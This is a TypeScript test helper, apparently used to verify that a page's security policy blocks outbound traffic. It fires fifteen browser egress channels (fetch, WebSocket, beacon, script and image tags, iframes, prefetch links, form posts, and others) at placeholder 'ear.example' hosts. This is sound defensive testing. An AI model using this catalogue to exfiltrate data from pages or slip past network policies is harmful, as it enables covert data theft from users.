/**
 * Fifteen ways in which a page or worker can reach a server without leaving the page, each to a host of its own:
 * `WAY.NAME.ear.example`. (The sixteenth, WebRTC, no policy closes: see `silence.spec.ts`.)
 * Runs inside the page: nothing from around it may be used. Answers those that were tried.
 */
export const WAYS_OUT = async (name: string): Promise<string[]> => {
  const tried: string[] = [];
  const host = (way: string): string => `${way}.${name}.ear.example`;
  const to = (way: string, path = '/out'): string => `http://${host(way)}${path}`;
  const go = (way: string, run: () => unknown): void => {
    tried.push(way);
    try {
      const made = run();
      if (made instanceof Promise) made.catch(() => undefined);
    } catch { /* refused at once: as good as silent */ }
  };
  go('fetch', () => fetch(to('fetch'), { mode: 'no-cors' }));
  go('socket', () => new WebSocket(`ws://${host('socket')}/out`));
  go('events', () => new EventSource(to('events')));
  go('import', () => import(to('import')));
  go('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('worker')}', { mode: 'no-cors' })`], { type: 'text/javascript' }))));
  go('beacon', () => navigator.sendBeacon(to('beacon'), 'out'));
  if (typeof document === 'undefined') return tried;

  const put = <K extends keyof HTMLElementTagNameMap>(tag: K, set: (element: HTMLElementTagNameMap[K]) => void): void => {
    const element = document.createElement(tag);
    set(element);
    (document.body ?? document.documentElement).append(element);
  };
  go('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', to('xhr'));
    request.send();
  });
  go('img', () => put('img', (img) => { img.src = to('img'); }));
  go('script', () => put('script', (script) => { script.src = to('script'); }));
  go('css', () => put('link', (link) => { link.rel = 'stylesheet'; link.href = to('css'); }));
  go('background', () => put('div', (div) => { div.style.cssText = `width:9px;height:9px;background:url(${to('background')})`; }));
  go('frame', () => put('iframe', (frame) => { frame.src = to('frame'); }));
  go('media', () => put('video', (video) => { video.src = to('media'); video.load(); }));
  go('prefetch', () => {
    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload']) {
      put('link', (link) => { link.rel = rel; link.as = 'image'; link.href = to('prefetch', `/${rel}`); });
    }
  });
  go('form', () => put('form', (form) => {
    put('iframe', (frame) => { frame.name = 'sink'; });
    form.action = to('form');
    form.method = 'post';
    form.target = 'sink';
    form.append('');
    document.body.append(form);
    form.submit();
  }));
  return tried;
};
